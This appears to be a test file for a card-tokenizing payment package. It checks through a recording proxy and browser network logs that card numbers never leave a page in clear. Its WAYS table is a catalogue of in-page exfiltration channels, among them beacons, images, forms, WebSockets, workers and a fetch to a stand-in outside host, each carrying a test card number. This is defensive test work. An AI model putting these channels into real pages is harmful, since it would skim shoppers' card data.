@@ -1,0 +1,276 @@
+// Everything that leaves a page, by whatever way: the bytes at a proxy that every connection of the browser goes through,
+// what the browser's own network log says, and messages to other origins, seen where they arrive. Where a platform's
+// format does not demand it, no card number, no security code and no run of digits like a card's goes out in clear: with
+// GreenPay never, with GP API to the platform's host alone.
+
+import assert from 'node:assert/strict';
+import { once } from 'node:events';
+import http from 'node:http';
+import net from 'node:net';
+import { after, before, test } from 'node:test';
+import { GP_DECLINED, GP_VISA, NO_MONEY, VISA, found, leaks, pause, startAll, typeCard, until } from './harness.mjs';
+
+/** A proxy that writes down what goes through it. It passes on what is for this machine, and refuses the rest. */
+async function startProxy() {
+  const requests = [];
+  const sockets = new Set();
+  const local = (host) => host === '127.0.0.1' || host === 'localhost';
+  const server = http.createServer((request, response) => {
+    const chunks = [];
+    request.on('data', (chunk) => chunks.push(chunk));
+    request.on('end', () => {
+      const body = Buffer.concat(chunks);
+      requests.push({ method: request.method, url: request.url, headers: request.rawHeaders.join('\n'), body: body.toString('latin1') });
+      const to = new URL(request.url);
+      if (!local(to.hostname)) return response.writeHead(502).end();
+      const onward = http.request(to, { method: request.method, headers: request.headers }, (answer) => {
+        response.writeHead(answer.statusCode, answer.headers);
+        answer.pipe(response);
+      });
+      onward.on('error', () => response.destroy());
+      onward.end(body);
+    });
+  });
+  server.on('connect', (request, socket) => {
+    const record = { method: 'CONNECT', url: request.url, headers: request.rawHeaders.join('\n'), body: '' };
+    requests.push(record);
+    const [host, port] = request.url.split(':');
+    socket.on('error', () => {});
+    if (!local(host)) return socket.end('HTTP/1.1 502 Bad Gateway\r\n\r\n');
+    const onward = net.connect(Number(port), host, () => {
+      socket.write('HTTP/1.1 200 Connection Established\r\n\r\n');
+      socket.on('data', (chunk) => { record.body += chunk.toString('latin1'); });
+      socket.pipe(onward).pipe(socket);
+    });
+    for (const end of [socket, onward]) sockets.add(end);
+    onward.on('error', () => socket.destroy());
+  });
+  server.listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  return {
+    requests,
+    url: `http://127.0.0.1:${server.address().port}`,
+    stop: async () => {
+      for (const socket of sockets) socket.destroy();
+      server.closeAllConnections();
+      server.close();
+      await once(server, 'close');
+    },
+  };
+}
+
+let all;
+let proxy;
+let other;
+
+before(async () => {
+  all = await startAll({ platforms: ['greenpay', 'gp_api'] });
+  proxy = await startProxy();
+  // Another origin, which says yes to everything and whose page listens to messages.
+  other = http.createServer((request, response) => {
+    response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' }).end('<!doctype html>other');
+  }).listen(0, '127.0.0.1');
+  await once(other, 'listening');
+  other.origin = `http://127.0.0.1:${other.address().port}`;
+});
+after(async () => {
+  other?.closeAllConnections();
+  other?.close();
+  await proxy?.stop();
+  await all?.stop();
+});
+
+/** A page whose every way out is watched; `out()` is what left since. */
+async function watched(body, { path = '/', ready = true } = {}) {
+  const from = proxy.requests.length;
+  const told = [];
+  const { page, context, close } = await all.open({ proxy: { server: proxy.url }, ready: false });
+  try {
+    await context.exposeBinding('__arrived', (_, text) => { told.push({ method: 'message', url: 'to another origin', headers: '', body: text }); });
+    await context.addInitScript(() => {
+      addEventListener('message', ({ data, origin }) => { if (origin !== location.origin) globalThis.__arrived(JSON.stringify(data)); });
+    });
+    const cdp = await context.newCDPSession(page);
+    cdp.on('Network.requestWillBeSent', ({ requestId, request }) => {
+      const record = { method: request.method, url: request.url + (request.urlFragment ?? ''), headers: JSON.stringify(request.headers), body: request.postData ?? '' };
+      told.push(record);
+      if (request.hasPostData && !request.postData) cdp.send('Network.getRequestPostData', { requestId }).then(({ postData }) => { record.body = postData; }, () => {});
+    });
+    cdp.on('Network.webSocketCreated', ({ url }) => told.push({ method: 'WebSocket', url, headers: '', body: '' }));
+    cdp.on('Network.webSocketFrameSent', ({ response }) => told.push({ method: 'WebSocket', url: 'frame', headers: '', body: response.payloadData }));
+    await cdp.send('Network.enable');
+    await page.goto(all.url + path);
+    if (ready) await page.waitForSelector('#pay-form[data-ready]');
+    return await body({ page, out: () => [...proxy.requests.slice(from), ...told] });
+  } finally {
+    all.front.cut = () => false;
+    await all.sandbox.clearFaults();
+    await close();
+  }
+}
+
+const own = (html = '') => { all.front.pages['/egress.html'] = `<!doctype html><meta charset="utf-8"><title>own</title><link rel="icon" href="data:,">${html}`; };
+const OWN = { path: '/egress.html', ready: false };
+
+// ---------------------------------------------------------------------------------------- the recorder sees
+
+const WAYS = {
+  fetch: (number, origin) => { fetch(`${origin}/x`, { method: 'POST', body: number }).catch(() => {}); },
+  'fetch in a header': (number, origin) => { fetch(`${origin}/x`, { headers: { 'x-note': number } }).catch(() => {}); },
+  XMLHttpRequest: (number, origin) => { const request = new XMLHttpRequest(); request.open('POST', `${origin}/x`); request.send(number); },
+  sendBeacon: (number, origin) => { navigator.sendBeacon(`${origin}/x`, number); },
+  'an image': (number, origin) => { new Image().src = `${origin}/x?${number}`; },
+  'a style sheet': (number, origin) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${origin}/${number}` })); },
+  'a script': (number, origin) => { document.head.append(Object.assign(document.createElement('script'), { src: `${origin}/${number}` })); },
+  'a link': (number, origin) => { document.body.append(Object.assign(document.createElement('a'), { href: `${origin}/${number}`, id: 'a' })); document.getElementById('a').click(); },
+  'a form': (number, origin) => {
+    const form = Object.assign(document.createElement('form'), { method: 'post', action: `${origin}/x` });
+    form.append(Object.assign(document.createElement('input'), { name: 'n', value: number }));
+    document.body.append(form);
+    form.submit();
+  },
+  'a form in the address': (number, origin) => {
+    const form = Object.assign(document.createElement('form'), { action: `${origin}/x` });
+    form.append(Object.assign(document.createElement('input'), { name: 'n', value: number }));
+    document.body.append(form);
+    form.submit();
+  },
+  'a frame': (number, origin) => { document.body.append(Object.assign(document.createElement('iframe'), { src: `${origin}/?${number}` })); },
+  'a message to another origin': (number, origin) => {
+    const frame = Object.assign(document.createElement('iframe'), { src: `${origin}/` });
+    frame.onload = () => frame.contentWindow.postMessage({ deep: [number] }, '*');
+    document.body.append(frame);
+  },
+  'a WebSocket': (number, origin) => { new WebSocket(`${origin.replace('http', 'ws')}/${number}`).onerror = () => {}; },
+  EventSource: (number, origin) => { new EventSource(`${origin}/${number}`); },
+  'a worker\'s fetch': (number, origin) => { new Worker(URL.createObjectURL(new Blob([`fetch('${origin}/x', { method: 'POST', body: '${number}' }).catch(() => {})`]))); },
+  'a host that is not of this machine': (number) => { fetch(`http://elsewhere.example/x?${number}`, { mode: 'no-cors' }).catch(() => {}); },
+};
+
+for (const [name, way] of Object.entries(WAYS)) {
+  test(`the recorder sees a number that leaves by ${name}`, async () => {
+    own('<body>');
+    await watched(async ({ page, out }) => {
+      assert.deepEqual(leaks(out(), VISA), []);
+      await page.evaluate(({ way, number, origin }) => (0, eval)(`(${way})`)(number, origin), { way: String(way), number: VISA.number, origin: other.origin });
+      await until('the leak', () => leaks(out(), VISA).length > 0, 5000);
+    }, OWN);
+  });
+}
+
+// -------------------------------------------------------------------------------------------- the demo page
+
+for (const way of ['relay', 'direct']) {
+  test(`GreenPay, ${way}: nothing of the card leaves the page in clear`, async () => {
+    for (const card of [VISA, NO_MONEY]) {
+      await watched(async ({ page, out }) => {
+        await page.check('#platform-greenpay');
+        await page.check(`#way-${way}`);
+        await typeCard(page, card);
+        await page.click('#pay');
+        await page.waitForSelector('#result:not([hidden]), #notice.notice-bad');
+        assert.ok(out().some(({ body }) => body.includes('"ld"')), 'a sealed card went out');
+        assert.deepEqual(leaks(out(), card), []);
+      });
+    }
+  });
+}
+
+/** What holds the card goes to the platform's one address, the rest holds nothing. */
+function onlyToThePlatform(records, card) {
+  const address = `${all.gp.url}/payment-methods`;
+  const to = (record) => record.method === 'POST' && record.url === address;
+  const sealed = records.filter(to);
+  assert.deepEqual(leaks(records.filter((record) => !to(record)), card), []);
+  for (const { url, headers } of sealed) assert.deepEqual(leaks([{ method: 'POST', url, headers, body: '' }], card), []);
+  return sealed.filter(({ body }) => found(body, card.number).length > 0).length;
+}
+
+test('GP API: the card goes to the platform\'s host and nowhere else', async () => {
+  for (const card of [GP_VISA, GP_DECLINED]) {
+    await watched(async ({ page, out }) => {
+      await page.check('#platform-gp_api');
+      await typeCard(page, card);
+      await page.click('#pay');
+      await page.waitForSelector('#result:not([hidden]), #notice.notice-bad');
+      // Once at the proxy, once in the browser's log.
+      assert.equal(onlyToThePlatform(out(), card), 2);
+    });
+  }
+});
+
+// ----------------------------------------------------------------------- the package alone, and all that goes wrong
+
+/** Runs in the page: every verb, with what may go wrong before and while it sends; the codes of what was thrown. */
+async function everything({ entry, key, card, other: origin, gp }) {
+  const cardseal = await import(`/pkg/${entry}.js`);
+  const said = [];
+  const attempt = async (name, work) => {
+    try {
+      await work();
+      said.push(`${name}: done`);
+    } catch (error) {
+      said.push(`${name}: ${error.code}`);
+    }
+  };
+  await cardseal.load();
+  const order = { session: '2b1f0c52-6f0c', token: '7d9cc4a3-0b4e' };
+  const access = { access_token: 't', reference: 'r', base_url: gp };
+  const greenpay = new cardseal.GreenPay({ publicKey: key, environment: { checkout: origin } });
+  const dead = new cardseal.GreenPay({ publicKey: key, environment: { checkout: 'http://127.0.0.1:1' } });
+  const gpApi = new cardseal.GpApi();
+  const relay = (kind) => ({ id: 'ses_00112233445566778899aabbccddeeff', platform: 'greenpay', kind, mode: 'relay', created_at: new Date().toISOString(), expires_at: new Date(Date.now() + 600_000).toISOString() });
+
+  await attempt('validate', () => cardseal.validateCard(card));
+  await attempt('brands', () => cardseal.candidateBrands(card.number));
+  for (let at = 1; at <= card.number.length; at++) await attempt('format', () => cardseal.formatCardNumber(card.number.slice(0, at), at));
+  await attempt('unknown session', () => greenpay.tokenize(relay('tokenize'), card));
+  await attempt('unknown payment', () => greenpay.pay(relay('payment'), card));
+  await attempt('not the platform', () => greenpay.tokenize(order, card));
+  await attempt('no platform', () => dead.tokenize(order, card));
+  await attempt('aborted', () => greenpay.pay(order, card, { signal: AbortSignal.abort() }));
+  await attempt('too late', () => greenpay.tokenize({ ...order, created_at: 0 }, card));
+  await attempt('a wrong card', () => greenpay.tokenize(order, { ...card, expiry: '01/20' }));
+  await attempt('a number for a name', () => greenpay.tokenize(order, { ...card, holder: card.number }));
+  await attempt('a number for a token', () => greenpay.updateToken(order, card, { token: `${card.number} ` }));
+  await attempt('a wrong session', () => greenpay.tokenize({ session: card.number + '/..', token: 'x' }, card));
+  await attempt('gp: wrong token', () => gpApi.tokenize(access, card));
+  await attempt('gp: a wrong card', () => gpApi.tokenize(access, { ...card, cvc: '' }));
+  await attempt('gp: no base', () => gpApi.tokenize({ access_token: 't', reference: 'r' }, card));
+  await attempt('gp: another kind', () => gpApi.tokenize(relay('tokenize'), card));
+  await attempt('confirm', () => greenpay.confirmToken(relay('tokenize'), { raw: { status: 201, requestId: 'x' } }));
+  if (cardseal.terminate) cardseal.terminate();
+  return said;
+}
+
+for (const entry of ['index', 'inline', 'worker']) {
+  test(`the package alone, ${entry}: whatever goes wrong, only GP API's host gets the card`, async () => {
+    own(`<body><iframe src="${other.origin}/"></iframe>`);
+    const card = { number: '4716108999716531', expiry: '12/30', cvc: '739', holder: 'Ana Maria', nickname: 'My Visa' };
+    await watched(async ({ page, out }) => {
+      const key = (await (await fetch(`${all.server.url}/v1/sessions`, {
+        method: 'POST', headers: { 'content-type': 'application/json', origin: all.url }, body: JSON.stringify({ platform: 'greenpay', kind: 'tokenize' }),
+      })).json()).public_key;
+      assert.ok(key, 'the shop\'s key');
+      const said = await page.evaluate(({ everything, args }) => (0, eval)(`(${everything})`)(args), { everything: String(everything), args: { entry, key, card, other: other.origin, gp: all.gp.url } });
+      assert.equal(said.filter((text) => text.endsWith(': done')).length, 2 + card.number.length, said.join('\n'));
+      await pause(300);
+      const sent = out();
+      // The worker keeps to the policy under which the server hands out its script, so that two of its requests stay away.
+      assert.ok(sent.filter(({ body }) => body.includes('"ld"')).length >= 2, said.join('\n'));
+      assert.ok(onlyToThePlatform(sent, card) >= 1, said.join('\n'));
+    }, OWN);
+  });
+}
+
+test('a page that is left in the middle sends nothing more', async () => {
+  await watched(async ({ page, out }) => {
+    await page.check('#platform-greenpay');
+    await typeCard(page, VISA);
+    await page.evaluate(() => { history.pushState({}, '', '#elsewhere'); dispatchEvent(new Event('pagehide')); });
+    await page.goto(`${other.origin}/`);
+    await pause(200);
+    assert.deepEqual(leaks(out(), VISA), []);
+    assert.ok(!out().some(({ headers }) => /referer/i.test(headers) && found(headers, VISA.number).length > 0));
+  });
+});
